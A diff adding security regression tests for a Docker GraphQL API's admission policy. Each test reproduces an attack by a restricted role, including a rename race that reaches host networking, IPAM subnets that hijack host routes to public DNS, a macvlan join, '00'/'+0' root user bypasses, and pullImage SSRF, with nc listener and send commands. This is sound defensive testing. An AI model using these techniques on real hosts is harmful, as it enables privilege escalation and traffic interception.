@@ -1,0 +1,341 @@
+// Attacks on the admission policy (src/security/admission.ts, src/docker/admission-gate.ts) by a
+// custom role with read, logs, lifecycle and write (no dangerous, no secrets), at the baseline
+// level and at the restricted level. Each test states what the policy should guarantee and fails
+// while the hole it names is open.
+import { execFileSync } from 'node:child_process';
+import { afterAll, describe, expect, it } from 'vitest';
+import { reviewContainerCreate } from '../../src/security/admission.ts';
+import { hashToken } from '../../src/security/principal.ts';
+import { randomToken } from '../helpers/access.ts';
+import { createTestApp, type GraphQLResponse, type TestApp } from '../helpers/app.ts';
+import { BASE_IMAGE, EngineFixtures, TEST_LABEL } from '../helpers/docker-fixtures.ts';
+import { waitFor } from '../helpers/wait-for.ts';
+
+const PERMISSIONS = ['read', 'logs', 'lifecycle', 'write'];
+
+function attackerEnv() {
+  const baseline = randomToken();
+  const restricted = randomToken();
+  const env = {
+    DOCKERGRAPH_TOKENS: JSON.stringify({
+      roles: {
+        attacker: PERMISSIONS,
+        confined: { permissions: PERMISSIONS, admission: 'restricted' },
+      },
+      tokens: [
+        { id: 'attacker', role: 'attacker', sha256: hashToken(baseline) },
+        { id: 'confined', role: 'confined', sha256: hashToken(restricted) },
+      ],
+    }),
+  };
+  return { env, baseline, restricted };
+}
+
+type Answer = GraphQLResponse<Record<string, unknown>>;
+
+async function gql(app: TestApp, query: string, variables: Record<string, unknown> = {}) {
+  const answer = await app.post<Answer>({ query, variables });
+  return answer.body;
+}
+
+const LOGS = `query ($id: String!) { container(idOrName: $id) { logs(timestamps: false) { lines { message } } } }`;
+
+async function logsOf(app: TestApp, id: string): Promise<string> {
+  const answer = await gql(app, LOGS, { id });
+  const container = answer.data?.container as { logs: { lines: { message: string }[] } } | null;
+  return (container?.logs.lines ?? []).map((line) => line.message).join('\n');
+}
+
+/** Runs `args` in the engine's network namespace (what the host itself sends and routes). */
+function inEngineNetns(args: string[]): string {
+  const netns = process.env.DOCKERGRAPH_ENGINE_NETNS;
+  const command = netns ? ['nsenter', `--net=/var/run/netns/${netns}`, ...args] : args;
+  return execFileSync(command[0] as string, command.slice(1), {
+    encoding: 'utf8',
+    timeout: 20_000,
+  });
+}
+
+describe('admission attacks', () => {
+  const fixtures = new EngineFixtures();
+  const runLabel = { name: TEST_LABEL, value: fixtures.run };
+  const { env, baseline, restricted } = attackerEnv();
+  const attacker = createTestApp(env, { token: baseline });
+  const confined = createTestApp(env, { token: restricted });
+
+  afterAll(async () => {
+    await fixtures.cleanup();
+    await Promise.all([attacker.close(), confined.close()]);
+  });
+
+  // HOLE 1: the gate memoises one verdict per distinct write for the whole operation, and the
+  // verdict of `networkMode: "container:<name>"` depends on which container <name> names at
+  // review time. Two identical creates in one operation, with renames in between, make the
+  // second create reuse the first verdict while <name> now names a host-network container.
+  it('baseline: a second identical create in one operation is reviewed again (no memoised container: verdict)', async () => {
+    // An administrator's monitoring agent on the host network (admitted at privileged).
+    const agent = fixtures.name('agent');
+    await fixtures.runContainer(agent, { HostConfig: { NetworkMode: 'host' } });
+    // Refused on its own: the policy does know the agent is out of bounds.
+    const direct = await gql(
+      attacker,
+      `mutation ($input: CreateContainerInput!) { createContainer(input: $input) { __typename } }`,
+      { input: { image: BASE_IMAGE, labels: [runLabel], networkMode: `container:${agent}` } },
+    );
+    expect(direct.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+
+    const decoy = fixtures.name('decoy');
+    const made = await gql(
+      attacker,
+      `mutation ($input: CreateContainerInput!) { createContainer(input: $input, start: true) { __typename } }`,
+      { input: { image: BASE_IMAGE, name: decoy, labels: [runLabel], cmd: ['sleep', '3600'] } },
+    );
+    expect(made.errors).toBeUndefined();
+
+    const spec = {
+      image: BASE_IMAGE,
+      labels: [runLabel],
+      networkMode: `container:${decoy}`,
+      cmd: ['cat', '/proc/net/dev'],
+    };
+    const answer = await gql(
+      attacker,
+      `mutation ($spec: CreateContainerInput!, $decoy: String!, $old: String!, $agent: String!) {
+        a: createContainer(input: $spec) { __typename }
+        r1: renameContainer(id: $decoy, newName: $old) { __typename }
+        r2: renameContainer(id: $agent, newName: $decoy) { __typename }
+        b: createContainer(input: $spec, start: true) {
+          __typename
+          ... on ContainerPayload { container { dockerId } }
+          ... on MutationError { message }
+        }
+      }`,
+      { spec, decoy, old: `${decoy}-old`, agent },
+    );
+    const second = answer.data?.b as { container?: { dockerId: string } } | null | undefined;
+    if (second?.container) {
+      const id = second.container.dockerId;
+      let interfaces = '';
+      await waitFor(
+        async () => {
+          interfaces = await logsOf(attacker, id);
+          return interfaces.includes('lo:');
+        },
+        { timeoutMs: 20_000, what: 'the interface list' },
+      );
+      // docker0 is an interface of the engine host's own network namespace.
+      expect(interfaces).not.toContain('docker0');
+    } else {
+      expect(answer.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+    }
+  });
+
+  // HOLE 2: createNetwork's IPAM config (subnet, gateway, ipRange) is not reviewed. A bridge
+  // whose subnet is someone else's address (a public DNS resolver, a cloud metadata address, the
+  // LAN's gateway) installs a more specific route on the host: the host's own traffic to that
+  // address goes to the attacker's container.
+  for (const level of ['baseline', 'restricted'] as const) {
+    it(`${level}: a network may not take over host routes with its IPAM subnet`, async () => {
+      const app = level === 'baseline' ? attacker : confined;
+      const subnet = level === 'baseline' ? '8.8.8.0/24' : '1.1.1.0/24';
+      const target = level === 'baseline' ? '8.8.8.8' : '1.1.1.1';
+      const name = fixtures.name(`hijack-${level}`);
+      const answer = await gql(
+        app,
+        `mutation ($input: CreateNetworkInput!) { createNetwork(input: $input) {
+          __typename ... on NetworkPayload { network { dockerId } } ... on MutationError { message } } }`,
+        {
+          input: {
+            name,
+            labels: [runLabel],
+            ipam: { config: [{ subnet, gateway: subnet.replace(/0\/24$/, '254') }] },
+          },
+        },
+      );
+      const network = (answer.data?.createNetwork as { network?: { dockerId: string } })?.network;
+      if (network) {
+        // What the engine host routes to the target address now.
+        const route = inEngineNetns(['ip', 'route', 'get', target]);
+        expect(route).not.toContain(`br-${network.dockerId.slice(0, 12)}`);
+      } else {
+        expect(answer.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+      }
+    });
+  }
+
+  it('baseline: a container on a hijacking network receives the host’s own traffic', async () => {
+    const name = fixtures.name('hijack-listen');
+    const made = await gql(
+      attacker,
+      `mutation ($input: CreateNetworkInput!) { createNetwork(input: $input) { __typename } }`,
+      {
+        input: {
+          name,
+          labels: [runLabel],
+          ipam: { config: [{ subnet: '9.9.9.0/24', gateway: '9.9.9.254' }] },
+        },
+      },
+    );
+    if (made.errors) {
+      expect(made.errors[0]?.extensions?.code).toBe('FORBIDDEN');
+      return;
+    }
+    const listener = await gql(
+      attacker,
+      `mutation ($input: CreateContainerInput!) { createContainer(input: $input, start: true) {
+        __typename ... on ContainerPayload { container { dockerId } } ... on MutationError { message } } }`,
+      {
+        input: {
+          image: BASE_IMAGE,
+          labels: [runLabel],
+          network: { name, ipv4Address: '9.9.9.9' },
+          cmd: ['sh', '-c', 'nc -l -p 53; echo done'],
+        },
+      },
+    );
+    const id = (listener.data?.createContainer as { container?: { dockerId: string } })?.container
+      ?.dockerId;
+    expect(id).toBeDefined();
+    // A process of the engine host sends to the public resolver 9.9.9.9.
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    inEngineNetns(['sh', '-c', 'echo host-secret-query | busybox nc -w 2 9.9.9.9 53 || true']);
+    let output = '';
+    await waitFor(
+      async () => {
+        output = await logsOf(attacker, id as string);
+        return output.includes('done');
+      },
+      { timeoutMs: 20_000, what: 'the listener to end' },
+    );
+    expect(output).not.toContain('host-secret-query');
+  });
+
+  // HOLE 4: only `POST /networks/create` is reviewed for network drivers; creating a container on,
+  // or connecting one to, an existing network is not. A network an administrator made on a host
+  // interface (macvlan/ipvlan over the LAN NIC, a bridge over an existing host bridge) is open to
+  // every writer, though the baseline level says "no host interface".
+  it('baseline: a container may not join an existing macvlan network on a host interface', async () => {
+    const parent = `dga${fixtures.run.slice(0, 6)}`;
+    inEngineNetns(['ip', 'link', 'add', parent, 'type', 'veth', 'peer', 'name', `${parent}p`]);
+    inEngineNetns(['ip', 'link', 'set', parent, 'up']);
+    try {
+      const lan = fixtures.name('admin-lan');
+      await fixtures.createNetwork(lan, {
+        Driver: 'macvlan',
+        Options: { parent },
+        IPAM: { Config: [{ Subnet: '192.168.77.0/24' }] },
+      });
+      // Refused when the attacker creates such a network itself.
+      const own = await gql(
+        attacker,
+        `mutation ($input: CreateNetworkInput!) { createNetwork(input: $input) { __typename } }`,
+        {
+          input: {
+            name: fixtures.name('own-lan'),
+            labels: [runLabel],
+            driver: 'macvlan',
+            options: [{ name: 'parent', value: parent }],
+          },
+        },
+      );
+      expect(own.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+      const created = await gql(
+        attacker,
+        `mutation ($input: CreateContainerInput!) { createContainer(input: $input) {
+          __typename ... on ContainerPayload { container { dockerId } } ... on MutationError { message } } }`,
+        {
+          input: {
+            image: BASE_IMAGE,
+            labels: [runLabel],
+            network: { name: lan },
+            cmd: ['sleep', '3600'],
+          },
+        },
+      );
+      const joined = (created.data?.createContainer as { container?: { dockerId: string } })
+        ?.container;
+      expect
+        .soft({ joined: joined ?? null, errors: created.errors?.[0]?.extensions?.code })
+        .toEqual({
+          joined: null,
+          errors: 'FORBIDDEN',
+        });
+      // And through connectContainerToNetwork.
+      const plainId = await fixtures.createContainer(fixtures.name('plain'));
+      const connect = await gql(
+        attacker,
+        `mutation ($network: String!, $container: String!) {
+          connectContainerToNetwork(network: $network, container: $container) { __typename } }`,
+        { network: lan, container: plainId },
+      );
+      expect.soft(connect.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+    } finally {
+      inEngineNetns(['ip', 'link', 'del', parent]);
+    }
+  });
+
+  // HOLE 5 (latent: restricted creates cannot be sent through GraphQL today, since no input sets
+  // SecurityOpt): the restricted level's run-as-root check reads "0", "root" and "" only, while the
+  // engine parses a numeric user with Go's Atoi, so "00" and "+0" run as uid 0.
+  it('restricted: a numeric user spelled "00" or "+0" is root', async () => {
+    for (const user of ['00', '+0']) {
+      const body = {
+        Image: BASE_IMAGE,
+        User: user,
+        Cmd: ['id', '-u'],
+        HostConfig: {
+          NetworkMode: 'none',
+          CapDrop: ['ALL'],
+          SecurityOpt: ['no-new-privileges'],
+        },
+      };
+      const id = await fixtures.runContainer(
+        fixtures.name(`uid-${user.replace('+', 'p')}`),
+        body,
+        true,
+      );
+      expect(await logsOf(attacker, id)).toBe('0');
+      const findings = await reviewContainerCreate(
+        body,
+        'restricted',
+        { bindAllowList: [], volumeDrivers: [], networkPools: [], registries: ['docker.io'] },
+        {
+          volume: async () => null,
+          container: async () => null,
+          network: async () => null,
+          imageUser: async () => '',
+        },
+      );
+      expect.soft(findings.map((item) => item.control)).toContain('run-as-root');
+    }
+  });
+
+  // HOLE 3: pulls (and pushes) make the engine connect to any host:port the caller names; the
+  // policy reviews none of it (searchImages refuses other registries for this very reason).
+  for (const level of ['baseline', 'restricted'] as const) {
+    it(`${level}: pullImage may not make the engine connect to an arbitrary host and port`, async () => {
+      const app = level === 'baseline' ? attacker : confined;
+      // Some internal service (here a container the administrator runs) on port 9999.
+      const service = fixtures.name(`internal-${level}`);
+      const serviceId = await fixtures.runContainer(service, {
+        Cmd: ['sh', '-c', 'timeout 8 nc -l -p 9999 | head -c 3 | od -An -tx1; echo end'],
+      });
+      const inspect = await fixtures.engine.json<{ NetworkSettings: { IPAddress: string } }>(
+        { path: `/containers/${serviceId}/json` },
+        'inspect',
+      );
+      const address = inspect.NetworkSettings.IPAddress;
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      const pull = await gql(
+        app,
+        `mutation ($reference: String!) { pullImage(reference: $reference) {
+          __typename ... on MutationError { message } } }`,
+        { reference: `${address}:9999/anything:1` },
+      );
+      await fixtures.waitContainer(serviceId);
+      const logs = await logsOf(attacker, serviceId);
+      // A TLS ClientHello (16 03 01) reached the internal service: the engine connected to it.
+      expect({ logs, pull }).not.toMatchObject({ logs: expect.stringContaining('16 03') });
+    });
+  }
+});
